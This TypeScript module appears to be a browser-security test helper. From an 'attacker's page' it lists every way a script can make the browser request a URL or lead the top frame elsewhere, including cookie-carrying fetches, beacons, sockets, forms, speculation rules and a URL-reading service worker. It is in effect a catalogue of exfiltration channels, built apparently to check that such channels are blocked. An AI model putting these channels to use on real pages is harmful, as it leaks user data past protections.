/**
 * Every way in which a script can have a URL asked for without leaving its page. Runs in the attacker's page, so it is
 * one function that needs nothing around it. Ends when all have settled, or after a while: some say nothing.
 *
 * @param url each way adds its own name at the end
 * @param detour URL of a server that redirects to what is put at its end, encoded
 */
export async function askInEveryWay(url: string, detour: string): Promise<void> {
  const { body } = document;
  const settled: Promise<unknown>[] = [];
  const at = (way: string) => `${url}${way}`;
  const redirected = (way: string) => detour + encodeURIComponent(at(way));
  const insert = (name: string, attributes: Record<string, string>, parent: Element = body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    settled.push(
      new Promise((resolve) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
      }),
    );
    parent.append(element);
    return element;
  };
  const attempt = (act: () => unknown) => {
    try {
      settled.push(Promise.resolve(act()).catch(() => {}));
    } catch {
      // The browser refuses this way here.
    }
  };

  attempt(() => fetch(at('fetch-no-cors'), { mode: 'no-cors' }));
  attempt(() => fetch(at('fetch-cors')));
  attempt(() => fetch(at('fetch-with-cookies'), { mode: 'no-cors', credentials: 'include' }));
  attempt(() => fetch(at('fetch-post'), { mode: 'no-cors', method: 'POST', body: 'x' }));
  attempt(() => fetch(at('fetch-keepalive'), { mode: 'no-cors', keepalive: true }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', at('xhr'));
    request.send();
  });
  attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
  attempt(() => new EventSource(at('event-source')));
  attempt(() => new WebSocket(at('socket').replace(/^http/, 'ws')));
  attempt(() => new FontFace('attack', `url(${JSON.stringify(at('font'))})`).load());
  insert('img', { src: at('image') });
  insert('script', { src: at('script') });
  insert('script', { src: at('module'), type: 'module' });
  insert('link', { rel: 'stylesheet', href: at('style') });
  insert('link', { rel: 'prefetch', href: at('prefetch') }, document.head ?? body);
  insert('link', { rel: 'preload', as: 'image', href: at('preload') }, document.head ?? body);
  insert('video', { src: at('video') });
  insert('iframe', { src: at('frame') });
  insert('object', { data: at('object') });
  attempt(() => fetch(redirected('redirected-fetch'), { mode: 'no-cors' }));
  insert('img', { src: redirected('redirected-image') });
  insert('script', { src: redirected('redirected-script') });
  insert('iframe', { src: redirected('redirected-frame') });
  for (const action of ['prefetch', 'prerender']) {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ [action]: [{ source: 'list', urls: [at(`speculation-${action}`)] }] });
    (document.head ?? body).append(rules);
  }
  insert('embed', { src: at('embed') });
  for (const [method, way] of [
    ['get', 'form-get'],
    ['post', 'form-post'],
  ] as const) {
    insert('iframe', { name: way });
    const form = document.createElement('form');
    Object.assign(form, { method, target: way, action: at(way) });
    const [path = '', query = ''] = at(way).split('?');
    if (method === 'get') {
      // A form replaces the query of its action by its fields.
      form.action = path;
      for (const [name, value] of new URLSearchParams(query)) {
        const field = document.createElement('input');
        Object.assign(field, { name, value, type: 'hidden' });
        form.append(field);
      }
    }
    body.append(form);
    attempt(() => form.submit());
  }
  const ping = document.createElement('a');
  Object.assign(ping, { href: '#', ping: at('ping') });
  body.append(ping);
  ping.click();
  await Promise.race([Promise.all(settled), new Promise((resolve) => setTimeout(resolve, 700))]);
}

/** The names of the ways in `askInEveryWay`. */
export const WAYS = [
  'fetch-no-cors',
  'fetch-cors',
  'fetch-with-cookies',
  'fetch-post',
  'fetch-keepalive',
  'xhr',
  'beacon',
  'event-source',
  'socket',
  'font',
  'image',
  'script',
  'module',
  'style',
  'prefetch',
  'preload',
  'video',
  'frame',
  'object',
  'redirected-fetch',
  'redirected-image',
  'redirected-script',
  'redirected-frame',
  'speculation-prefetch',
  'speculation-prerender',
  'embed',
  'form-get',
  'form-post',
  'ping',
] as const;

/** A way to lead the top frame to a URL. Runs in the attacker's page, in one with a person's click behind it. */
export const LEADS: Readonly<Record<string, (url: string) => void>> = {
  link: (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_top' });
    link.click();
  },
  'link without referrer in a new tab': (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_blank', rel: 'noreferrer noopener' });
    link.click();
  },
  'link to download': (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_top', download: 'stolen' });
    link.click();
  },
  'location of the top frame': (url) => {
    const top = window.top ?? window;
    top.location.href = url;
  },
  'form by GET': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    const [path = '', query = ''] = url.split('?');
    Object.assign(form, { method: 'get', action: path, target: '_top' });
    for (const [name, value] of new URLSearchParams(query)) {
      const field = form.appendChild(document.createElement('input'));
      Object.assign(field, { name, value, type: 'hidden' });
    }
    form.submit();
  },
  'form by POST': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'post', action: url, target: '_top' });
    form.submit();
  },
  'form by POST into a new window': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'post', action: url, target: '_blank' });
    form.submit();
  },
  window: (url) => void window.open(url),
  'window in two steps': (url) => {
    const opened = window.open('about:blank');
    if (opened) opened.location.href = url;
  },
  'window led back and forth in its history': (url) => {
    const opened = window.open('about:blank');
    if (!opened) return;
    opened.location.href = url;
    setTimeout(() => {
      try {
        opened.history.back();
        opened.history.forward();
      } catch {
        // Cut off by then.
      }
    }, 300);
  },
  'refresh by meta': (url) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${url}` });
    document.head.append(meta);
  },
};

/** Script of a service worker that reads a URL when it is asked, and tells what it read. */
export function serviceWorkerCode(url: string): string {
  return `onmessage = ({ ports: [port] }) => fetch(${JSON.stringify(url)}, { mode: 'no-cors' })
    .then((response) => response.text(), String).then((text) => port.postMessage(text));`;
}
